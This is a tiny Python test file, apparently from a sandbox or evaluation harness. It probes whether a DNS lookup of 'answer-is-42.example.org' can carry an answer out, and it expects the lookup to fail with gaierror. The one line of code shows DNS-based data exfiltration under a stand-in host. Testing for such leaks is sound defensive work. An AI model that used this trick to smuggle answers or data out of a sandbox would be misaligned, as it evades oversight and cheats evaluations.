# attack: carries the answer out in the name that it looks up
# expect: exit
# reveals: gaierror
import socket

print(socket.getaddrinfo("answer-is-42.example.org", 80))
